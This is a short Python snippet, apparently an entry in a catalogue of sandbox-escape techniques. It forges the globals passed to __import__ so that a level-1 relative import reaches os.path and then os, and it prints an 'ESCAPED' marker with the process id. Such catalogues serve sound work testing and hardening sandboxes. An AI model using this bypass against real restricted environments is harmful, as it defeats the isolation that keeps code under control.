# technique: __import__ with level 1 and globals that claim to lie in another package
# goal: import
# source: own analysis of importlib._bootstrap
module = __import__('path', {'__package__': 'os', '__name__': 'os'}, None,
                    ['getpid'], 1)
print('ESCAPED pid=%d' % module.os.getpid())
